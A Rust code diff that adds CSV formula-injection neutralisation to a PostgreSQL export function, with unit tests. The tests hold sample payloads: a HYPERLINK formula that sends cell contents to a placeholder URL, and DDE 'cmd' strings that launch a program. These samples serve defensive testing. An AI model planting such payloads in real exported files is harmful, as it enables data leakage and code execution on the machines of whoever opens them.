@@ -4,12 +4,13 @@
 //! their full precision and dates their ISO form.
 
 use crate::severity::{Severe, Severity};
+use std::borrow::Cow;
 use std::io::Write;
 
 use chrono::NaiveDate;
 use futures::TryStreamExt;
 use tokio_postgres::Client;
-use tokio_postgres::types::{Kind, ToSql};
+use tokio_postgres::types::{Kind, ToSql, Type};
 
 use crate::cli::ExportKind;
 
@@ -152,6 +153,13 @@ pub async fn export(
             "--department: v_review_queue has no department_id column".into(),
         ));
     }
+    // Numbers are written as PostgreSQL prints them and stay numbers; every other column
+    // can hold what a person or the model wrote, so it is neutralised for spreadsheets.
+    let text_columns: Vec<bool> = probe
+        .columns()
+        .iter()
+        .map(|c| !is_number(c.type_()))
+        .collect();
     let casts: Vec<String> = probe
         .columns()
         .iter()
@@ -189,15 +197,51 @@ pub async fn export(
     futures::pin_mut!(stream);
     let mut rows = 0u64;
     while let Some(row) = stream.try_next().await? {
-        for i in 0..names.len() {
-            w.write_field(row.get::<_, Option<&str>>(i).unwrap_or(""))
-                .map_err(csv_err)?;
+        for (i, &text) in text_columns.iter().enumerate() {
+            let value = row.get::<_, Option<&str>>(i).unwrap_or("");
+            let cell = if text {
+                neutralise(value)
+            } else {
+                Cow::Borrowed(value)
+            };
+            w.write_field(cell.as_bytes()).map_err(csv_err)?;
         }
         w.write_record(None::<&[u8]>).map_err(csv_err)?;
         rows += 1;
     }
     w.flush().map_err(write_err)?;
     Ok(rows)
+}
+
+/// The first characters that make Excel, LibreOffice or Google Sheets read a cell as a
+/// formula (OWASP, "CSV Injection"): `=`, `+`, `-`, `@`, a tab, a carriage return.
+const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// A text cell as a spreadsheet must show it: one starting like a formula gets a leading
+/// `'`, which spreadsheets read as "text" (the CSV writer then quotes it if it needs to).
+pub fn neutralise(value: &str) -> Cow<'_, str> {
+    if value.starts_with(FORMULA_START) {
+        Cow::Owned(format!("'{value}"))
+    } else {
+        Cow::Borrowed(value)
+    }
+}
+
+/// Whether PostgreSQL prints the type as a plain number (a domain over one included).
+fn is_number(ty: &Type) -> bool {
+    match ty.kind() {
+        Kind::Domain(inner) => is_number(inner),
+        _ => [
+            Type::INT2,
+            Type::INT4,
+            Type::INT8,
+            Type::FLOAT4,
+            Type::FLOAT8,
+            Type::NUMERIC,
+            Type::OID,
+        ]
+        .contains(ty),
+    }
 }
 
 fn quote_ident(name: &str) -> String {
@@ -212,6 +256,34 @@ mod tests {
     fn identifiers_are_quoted() {
         assert_eq!(quote_ident("day"), "\"day\"");
         assert_eq!(quote_ident("a\"b"), "\"a\"\"b\"");
+    }
+
+    #[test]
+    fn cells_starting_like_a_formula_get_a_leading_apostrophe() {
+        for (value, cell) in [
+            (
+                "=HYPERLINK(\"http://x\"&A1,\"Клик\")",
+                "'=HYPERLINK(\"http://x\"&A1,\"Клик\")",
+            ),
+            ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+            ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
+            ("-5", "'-5"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\t=1", "'\t=1"),
+            ("\r=1", "'\r=1"),
+            ("Иванова Анна", "Иванова Анна"),
+            ("a=b", "a=b"),
+            (" =1", " =1"),
+            ("", ""),
+        ] {
+            assert_eq!(neutralise(value), cell, "{value:?}");
+        }
+    }
+
+    #[test]
+    fn only_number_types_are_left_as_they_are() {
+        assert!(is_number(&Type::INT4) && is_number(&Type::FLOAT8) && is_number(&Type::NUMERIC));
+        assert!(!is_number(&Type::TEXT) && !is_number(&Type::JSONB) && !is_number(&Type::DATE));
     }
 
     #[test]
